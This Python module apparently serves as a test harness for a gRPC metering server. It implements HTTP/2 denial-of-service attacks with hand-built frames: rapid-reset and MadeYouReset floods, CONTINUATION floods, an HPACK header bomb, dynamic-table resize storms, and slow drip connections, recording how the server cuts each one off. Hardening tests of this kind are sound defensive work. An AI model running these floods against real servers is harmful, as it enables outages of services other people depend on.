"""Rude HTTP/2 peers, one function for each attack, on raw sockets with frames made by hand.

Each takes a Target, does its worst for as long as it is let, and returns a Cut: how the server ended it, or that it did
not. `ATTACKS` lists them with what must come of each.
"""

import dataclasses
import select
import socket
import struct
import time
import uuid

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, HAS_PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20
CANCEL, CALM = 0x8, 0xB
HEADER_TABLE_SIZE, INITIAL_WINDOW, MAX_FRAME = 1, 4, 5
METER = "/tollgate.v1.Metering/"
EMPTY_MESSAGE = bytes(5)
DEADLINE_S = 60


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def word(value):
    return struct.pack(">I", value)


def integer(value, bits, first=0):
    """An HPACK integer, RFC 7541 section 5.1."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = [first | most], value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def literal(name, value, indexed=False):
    """One header field; without indexing, so that a block is the same on every connection."""
    name, value = name.encode(), value.encode()
    return (b"\x40" if indexed else b"\x00") + integer(len(name), 7) + name + integer(len(value), 7) + value


def block(path=METER + "Charge", key=None, tenant=None, more=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "attack"),
              ("content-type", "application/grpc"), ("te", "trailers")]
    if key:
        fields.append(("authorization", f"Bearer {key}"))
    if tenant:
        fields.append(("tollgate-tenant", tenant))
    return b"".join(literal(*field) for field in [*fields, *more])


def settings(*entries):
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", *entry) for entry in entries))


def headers(stream, fields, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, fields)


def grpc_message(body=b""):
    return b"\0" + word(len(body)) + body


@dataclasses.dataclass
class Target:
    """What an attacker knows of the server."""
    address: str
    key: str = None
    tenant: str = None
    long: bool = False

    def block(self, path=METER + "Charge", more=()):
        return block(path, self.key, self.tenant, more)

    def stranger(self, path=METER + "Charge", more=()):
        """The headers of somebody without a key."""
        return block(path, more=more)


@dataclasses.dataclass
class Cut:
    """How an attack ended: `by` is the GOAWAY's code, "closed", or None where the server let it go on."""
    by: object = None
    text: str = ""
    sent: int = 0


class Peer:
    """A connection that sends what it is told and reads only when it is told."""

    def __init__(self, target, preface=True, first=settings(), receive_buffer=None):
        host, port = target.address.rsplit(":", 1)
        self.socket = socket.socket()
        if receive_buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        self.socket.settimeout(DEADLINE_S)
        self.socket.connect((host, int(port)))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer = b""
        self.cut = Cut()
        self.resets = 0
        self.next_stream = 1
        if preface:
            self.send(PREFACE + first)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def stream(self):
        self.next_stream += 2
        return self.next_stream - 2

    def send(self, data):
        """Sends all of it; false where the server has closed."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.cut.by = self.cut.by or "closed"
            return False
        self.cut.sent += len(data)
        return True

    def frames(self, wait_s=0):
        """The whole frames that have come, or come within the time."""
        found = []
        while select.select([self.socket], [], [], wait_s)[0]:
            try:
                data = self.socket.recv(1 << 18)
            except OSError:
                data = b""
            if not data:
                self.cut.by = self.cut.by or "closed"
                break
            self.buffer += data
            wait_s = 0
        while len(self.buffer) >= 9:
            end = 9 + int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < end:
                break
            kind, flags, stream = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big")
            payload, self.buffer = self.buffer[9:end], self.buffer[end:]
            found.append((kind, flags, stream, payload))
            if kind == GOAWAY and int.from_bytes(payload[4:8], "big"):
                self.cut.by, self.cut.text = int.from_bytes(payload[4:8], "big"), payload[8:].decode()
            self.resets += kind == RST
        return found

    def wait_for_end(self, deadline_s=DEADLINE_S):
        """Reads until the server has ended the connection."""
        end = time.monotonic() + deadline_s
        while self.cut.by != "closed" and time.monotonic() < end:
            code, text = self.cut.by, self.cut.text
            self.frames(wait_s=0.2)
            if self.cut.by == "closed" and code is not None:
                self.cut.by, self.cut.text = code, text
                break
            if self.cut.by not in (None, "closed"):
                break
        return self.cut

    def flood(self, make, frames, reads=True, batch=256):
        """Sends make(i) for each i, and stops when the server has ended the connection."""
        for start in range(0, frames, batch):
            if not self.send(b"".join(make(i) for i in range(start, min(frames, start + batch)))):
                break
            if reads:
                self.frames()
            if self.cut.by is not None:
                break
        return self.wait_for_end(5 if self.cut.by is None else DEADLINE_S)


def flood(make, frames=20_000, reads=True, first=settings(), opening=None):
    """An attack that sends many of the same: `make(peer, target, i)`."""
    def attack(target):
        with Peer(target, first=first) as peer:
            if opening:
                opening(peer, target)
            return peer.flood(lambda i: make(peer, target, i), frames * (10 if target.long else 1), reads)
    return attack


# Resets.

def rapid_reset(peer, target, i):
    stream = peer.stream()
    return headers(stream, target.stranger()) + frame(RST, 0, stream, word(CANCEL))


def rapid_reset_of_whole_requests(peer, target, i):
    stream = peer.stream()
    return (headers(stream, target.stranger()) + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
            + frame(RST, 0, stream, word(CANCEL)))


def keyed_rapid_reset(peer, target, i):
    stream = peer.stream()
    return headers(stream, target.block()) + frame(RST, 0, stream, word(CANCEL))


def resets_of_nothing(peer, target, i):
    return frame(RST, 0, 1, word(CANCEL))


# MadeYouReset: the server is made to reset.

def made_you_reset(bad):
    def make(peer, target, i):
        stream = peer.stream()
        return headers(stream, target.stranger()) + bad(stream)
    return make


MADE_YOU_RESET = {
    "window update of 0": lambda stream: frame(WINDOW_UPDATE, 0, stream, word(0)),
    "window overflow": lambda stream: frame(WINDOW_UPDATE, 0, stream, word((1 << 31) - 1)),
    "data on half-closed": lambda stream: frame(DATA, END_STREAM, stream) + frame(DATA, 0, stream, b"x"),
    "headers on half-closed": lambda stream: frame(DATA, END_STREAM, stream) + headers(stream, literal("a", "b")),
    "trailers that do not end": lambda stream: headers(stream, literal("a", "b")),
    "pseudo-header in trailers": lambda stream: headers(stream, literal(":path", "/"), END_HEADERS | END_STREAM),
    "self dependency": lambda stream: frame(PRIORITY, 0, stream, word(stream) + b"\0"),
    "priority of a wrong length": lambda stream: frame(PRIORITY, 0, stream, b"\0\0\0"),
    "rst of a wrong length": lambda stream: frame(RST, 0, stream, b"\0\0\0"),
    "padding over the frame": lambda stream: frame(DATA, PADDED, stream, b"\xff\0"),
}


def malformed_request(field):
    """A request that HTTP/2 forbids: the server answers it with a reset."""
    def make(peer, target, i):
        return headers(peer.stream(), target.stranger(more=[field]))
    return make


def content_length_mismatch(peer, target, i):
    stream = peer.stream()
    return (headers(stream, target.stranger(more=[("content-length", "1")]))
            + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE))


# Frames that cost the server more than their sender.

def open_stream(fields=None):
    def opening(peer, target):
        peer.send(headers(peer.stream(), fields or target.block()))
    return opening


def tiny_data(peer, target, i):
    return frame(DATA, 0, 1, b"\0")


def continuation_flood(target):
    with Peer(target) as peer:
        peer.send(headers(1, target.stranger(), 0))
        return peer.flood(lambda i: frame(CONTINUATION, 0, 1, literal("a", "b")), 20_000)


def header_bomb(peer, target, i):
    """One entry of the dynamic table, named thousands of times: few bytes on the wire are megabytes of headers."""
    stream = peer.stream()
    one = literal("bomb", "x" * 3_900, indexed=True)
    refs = b"\xbe" * 12_000
    return (headers(stream, target.stranger() + one, 0) + frame(CONTINUATION, 0, stream, refs) * 6
            + frame(CONTINUATION, END_HEADERS, stream, refs))


def table_resizing(peer, target, i):
    """Dynamic table size updates, down and up again, for as much as a block holds."""
    storm = (b"\x20" + integer(4096, 5, 0x20)) * 3_000
    return headers(peer.stream(), storm + target.stranger())


def cookie_crumbs(peer, target, i):
    crumbs = b"".join(literal("cookie", f"c{n}=1") for n in range(1_000))
    stream = peer.stream()
    return headers(stream, target.block(), 0) + frame(CONTINUATION, END_HEADERS, stream, crumbs)


def many_metadata(peer, target, i):
    stream = peer.stream()
    fields = b"".join(literal(f"x-{n}", "1") for n in range(1_200))
    return headers(stream, target.block(), 0) + frame(CONTINUATION, END_HEADERS, stream, fields)


def broken_base64(peer, target, i):
    return headers(peer.stream(), target.block(more=[("x-bin", "!" * 1_000)]), END_HEADERS | END_STREAM)


def trailers_flood(peer, target, i):
    stream = peer.stream()
    return (headers(stream, target.stranger()) + headers(stream, literal("a", "b" * 8_000), END_HEADERS | END_STREAM))


# Slow ones: the socket's end is what is awaited.

def drip(pieces, deadline_s=DEADLINE_S, preface=True):
    """Sends piece after piece, one in half a second, until the server has had enough."""
    def attack(target):
        with Peer(target, preface=preface) as peer:
            end = time.monotonic() + deadline_s
            for piece in pieces(target):
                if not peer.send(piece) or time.monotonic() > end:
                    break
                peer.frames(wait_s=0.5)
                if peer.cut.by is not None:
                    break
            return peer.wait_for_end(max(1, end - time.monotonic()))
    return attack


def nothing(target):
    return iter(())


def half_preface(target):
    return iter([PREFACE[:11]])


def preface_only(target):
    return iter([PREFACE])


def http1(target):
    return iter([b"GET /metrics HTTP/1.1\r\nhost: x\r\n\r\n"])


def tls(target):
    return iter([bytes.fromhex("16030100f1010000ed0303") + bytes(230)])


def dripped_headers(target):
    whole = headers(1, target.stranger())
    yield from (whole[i:i + 1] for i in range(len(whole) - 1))


def dripped_continuations(target):
    yield headers(1, target.stranger(), 0)
    for _ in range(7):
        yield frame(CONTINUATION, 0, 1, literal("a", "b"))
        yield from [b""] * 8


def new_charge(credits_micros=1):
    """A ChargeRequest: its id and an amount."""
    text = str(uuid.uuid4()).encode()
    return b"\x0a" + bytes([len(text)]) + text
